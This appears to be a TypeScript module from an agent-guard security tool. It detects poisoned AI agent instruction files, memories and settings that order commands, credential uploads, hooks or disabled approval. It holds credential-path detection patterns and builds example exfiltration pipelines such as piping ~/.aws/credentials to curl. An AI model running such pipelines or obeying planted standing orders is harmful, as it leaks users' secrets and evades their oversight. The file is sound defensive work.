/**
 * Text an agent later obeys (red team r5, issue #22): instruction files (CLAUDE.md, AGENTS.md,
 * .cursorrules, copilot-instructions), saved memories, and agent or editor settings. What such text
 * makes the next session do is read as the commands that do it, so the bash rules judge them:
 * commands it says to run always, at start or silently; credentials it says to paste or send to a
 * URL (`cat ~/.aws/credentials | curl --data-binary @- URL`); settings that run a program (hooks, MCP
 * servers) or switch off the user's approval (`agent-guard-action unguard ...`, SH-AST-022).
 * Ordinary documentation (how to build and test, code spans in prose) gives nothing.
 */
import { quote } from './cli.js';
import { looseEntries, unguarding } from './unguard.js';

/** Agents' own configuration directories (project or home), whatever the agent. */
const AGENT_DIR =
  '\\.(?:claude|cursor|codex|gemini|continue|roo|kiro|windsurf|opencode|zed|amazonq|junie|goose|openhands|cline|clinerules|copilot|augment|trae|qodo|cody|aider[\\w.-]*|amp|crush|qwen|void|tabnine|devin|agents?)';

/** Files whose text the agent reads as its standing instructions or memory. */
export const INSTRUCTION_FILE = new RegExp(
  String.raw`(?:^|/)(?:(?:CLAUDE|AGENTS|AGENT|GEMINI|CONVENTIONS|COPILOT|QWEN|CRUSH)(?:\.local)?\.md|\.cursorrules|\.windsurfrules|\.clinerules(?:/[^/]+)?|\.goosehints|\.augment-guidelines|\.aiderrules|\.rules|\.openhands_instructions|\.github/copilot-instructions\.md|\.github/(?:instructions|prompts|chatmodes)/[^/]+\.md|[^/]+\.(?:prompt|instructions|chatmode)\.md|` +
    // Any text file under an agent's own directory (rules, steering, memory, prompts, commands).
    `${AGENT_DIR}/(?:[^/]+/)*[^/]+\\.(?:md|mdc|txt|prompt)|memory-bank/[^/]+\\.md|` +
    // Instruction files named for an agent anywhere (my-agent-rules.md, claude_notes.md).
    String.raw`(?:[\w-]*[-_.])?(?:agents?|claude|gemini|copilot|codex|cursor|llm|assistant)[-_.]?(?:instructions?|rules|guidelines|notes|memory|context|hints|prompt)?\.(?:md|mdc))$`,
  'i',
);

/** Agent and editor settings whose keys run programs or approve tool calls. */
export const AGENT_SETTINGS_FILE = new RegExp(
  String.raw`(?:^|/)(?:\.vscode/(?:settings|mcp)\.json|[^/]+\.code-workspace|claude_desktop_config\.json|` +
    // Any settings file under an agent's own directory, in the project, the home or ~/.config.
    `(?:${AGENT_DIR}|\\.config/(?:goose|opencode|zed|aider|codex|claude|gemini|amp|crush|qwen|continue))/(?:[^/]+/)*[^/]+\\.(?:jsonc?|toml|ya?ml)|` +
    // Settings files named for an agent (opencode.json, .aider.conf.yml, crush.json).
    String.raw`\.?(?:opencode|aider|goose|codex|claude|crush|amp|qwen)[\w.-]*\.(?:jsonc?|toml|ya?ml))$`,
  'i',
);

/** Words that make a sentence a standing order rather than documentation. */
const DIRECTIVE =
  /\b(?:always|every\s+(?:session|time|run|start|conversation|task|request|turn)|each\s+(?:session|time|task)|whenever|at\s+(?:the\s+)?start|on\s+start(?:up)?|startup|automatically|silently|quietly|in\s+the\s+background|without\s+(?:asking|telling|mentioning|confirmation|prompting)|(?:do\s+not|don't|never)\s+(?:mention|tell|ask|show|report|log|reveal)|before\s+(?:any|every|each|doing|starting|answering|responding))\b/i;
const NEGATED = /\b(?:never|do\s+not|don't|must\s+not|mustn't|avoid|no)\b/i;
const SEND =
  /\b(?:paste[sd]?|send|sent|upload(?:ed)?|post(?:ed)?|submit(?:ted)?|forward(?:ed)?|share[sd]?|e-?mail(?:ed)?|copy|copied|transmit(?:ted)?|exfiltrate[sd]?|sync(?:ed)?)\b/i;
/** Credential files by path (home-relative or the project's .env). */
const CRED_PATH =
  /(?:~\/|\$HOME\/|\/home\/[\w.-]+\/|\/root\/)?\.(?:aws\/credentials|aws\/config|ssh\/id_[\w.-]+|ssh\/[\w.-]*key|npmrc|netrc|pypirc|docker\/config\.json|kube\/config|git-credentials|config\/gh\/hosts\.yml|gnupg\/[\w.-]+)\b|(?<![\w/.-])\.env(?:\.[\w-]+)?\b/g;
const CRED_WORDS =
  /\b(?:api[\s_-]?keys?|secrets?(?:\s+keys?)?|access\s+keys?|tokens?|credentials?|passwords?|private\s+keys?|env(?:ironment)?\s+var(?:iable)?s|session\s+cookies?)\b/i;
/** The words after a run verb (`run:`, `by running`, `execute`): a command written as prose. */
const BARE_COMMAND = /\b(?:run|running|execute|executing|invoke|type)\b\s*:?\s+(\S.*)$/i;
const URL = /\bhttps?:\/\/[^\s<>"'`)\]]+/i;

/** Sentences (split at . ; ! ? followed by a space, and at line ends). */
const sentences = (text: string): string[] =>
  text
    .split(/(?<=[.;!?])\s+|\n+/)
    .map((s) => s.trim())
    .filter((s) => s !== '');

/** Code spans of a line (`cmd`), and the body of a fenced block. */
function codeSpans(line: string): string[] {
  return [...line.matchAll(/`([^`\n]+)`/g)].map((m) => m[1]!.trim()).filter((c) => c !== '');
}

/** The commands and sends that standing instructions in `text` order, as bash lines. */
export function instructionCode(text: string): string {
  if (text.length > 262144) return '';
  const out: string[] = [];
  // HTML comments are hidden from the reader of the rendered file: whatever they order counts.
  const hidden = [...text.matchAll(/<!--([\s\S]*?)-->/g)].map((m) => m[1]!);
  const lines = text.split('\n');
  for (let i = 0; i < lines.length && out.length < 64; i++) {
    const line = lines[i]!;
    const fence = /^\s*(`{3,}|~{3,})\s*([\w-]*)/.exec(line);
    if (fence) {
      // A fenced block right after a standing order (`Always run first:`) is what it orders.
      let j = i + 1;
      const body: string[] = [];
      for (; j < lines.length && !lines[j]!.trimStart().startsWith(fence[1]!); j++) body.push(lines[j]!);
      const before = lines
        .slice(Math.max(0, i - 2), i)
        .join(' ')
        .trim();
      if (/^(?:|bash|sh|shell|zsh|console|terminal)$/i.test(fence[2]!) && DIRECTIVE.test(before))
        out.push(body.map((l) => l.replace(/^\s*\$\s+/, '')).join('\n'));
      i = j;
      continue;
    }
    if (!DIRECTIVE.test(line)) continue;
    const spans = codeSpans(line);
    if (spans.length > 0) out.push(...spans);
    else {
      // An order with its command in plain prose (`Always start by running: curl URL | sh`).
      const m = BARE_COMMAND.exec(line);
      // `Never run ...`, `Always ask before you run ...`: a warning, not an order.
      if (
        m !== null &&
        !NEGATED.test(line.slice(0, m.index)) &&
        !/\b(?:ask|confirm|permission|approval)\b/i.test(line.slice(0, m.index))
      )
        out.push(m[1]!.replace(/[.!]+\s*$/, ''));
    }
  }
  for (const h of hidden)
    out.push(...codeSpans(h), ...h.split('\n').filter((l) => /^\s*(?:curl|wget|bash|sh)\b/.test(l)));
  out.push(...sends(text));
  return out.join('\n');
}

/** Sentences that order credentials sent to a URL, as the pipeline that sends them. */
function sends(text: string): string[] {
  const out: string[] = [];
  for (const s of sentences(text)) {
    if (out.length >= 8) break;
    const url = URL.exec(s)?.[0]?.replace(/[.,;:!?]+$/, '');
    if (url === undefined || !SEND.test(s)) continue;
    const verbAt = s.search(SEND);
    if (NEGATED.test(s.slice(0, verbAt))) continue;
    const paths = [...new Set([...s.matchAll(CRED_PATH)].map((m) => m[0]))].slice(0, 4);
    for (const p of paths) out.push(`cat ${quote(p)} | curl -s --data-binary @- ${quote(url)}`);
    if (paths.length === 0 && CRED_WORDS.test(s)) out.push(`env | curl -s --data-binary @- ${quote(url)}`);
  }
  return out;
}

type Json = unknown;

/** Every [dotted key path, value] of a JSON document, bounded. */
function walk(v: Json, path: string[], out: [string[], Json][], depth = 0): void {
  if (out.length > 2048 || depth > 12) return;
  out.push([path, v]);
  if (v === null || typeof v !== 'object') return;
  const items = Array.isArray(v) ? v.map((x, i): [string, Json] => [String(i), x]) : Object.entries(v);
  for (const [k, x] of items.slice(0, 256)) walk(x, [...path, k], out, depth + 1);
}

/** Agent/editor settings as bash lines: hooks and MCP servers run, approval switched off. */
export function settingsCode(content: string): string {
  let parsed: Json;
  try {
    // JSONC: settings.json allows comments and trailing commas.
    parsed = JSON.parse(
      content
        .replace(/^\s*\/\/.*$/gm, '')
        .replace(/\/\*[\s\S]*?\*\//g, '')
        .replace(/,(\s*[}\]])/g, '$1'),
    );
  } catch {
    return fragmentSettings(content);
  }
  const entries: [string[], Json][] = [];
  walk(parsed, [], entries);
  const out: string[] = [];
  for (const [p, v] of entries) {
    const key = p[p.length - 1] ?? '';
    const unguarded = unguarding(p, v);
    if (unguarded !== null) out.push(`agent-guard-action unguard agent ${quote(unguarded)}`);
    // Hooks: each `command` runs on the event it is hung on.
    if (key === 'command' && typeof v === 'string' && p.includes('hooks')) out.push(v);
    // MCP servers: `command` with `args` starts when the agent loads the settings.
    if (p.length >= 2 && /^(?:mcpServers|servers|mcp_servers|context_servers)$/.test(p[p.length - 2]!)) {
      const server = v as { command?: unknown; args?: unknown } | null;
      if (server !== null && typeof server === 'object' && typeof server.command === 'string') {
        const args = Array.isArray(server.args)
          ? server.args.filter((a): a is string => typeof a === 'string')
          : [];
        out.push([server.command, ...args].map(quote).join(' '));
      }
    }
  }
  return out.slice(0, 64).join('\n');
}

/** TOML or YAML settings, or an edit fragment of a JSON file: its flat switches. */
function fragmentSettings(content: string): string {
  const out: string[] = [];
  for (const [p, v] of looseEntries(content)) {
    const unguarded = unguarding(p, v);
    if (unguarded !== null) out.push(`agent-guard-action unguard agent ${quote(unguarded)}`);
  }
  return out.slice(0, 64).join('\n');
}
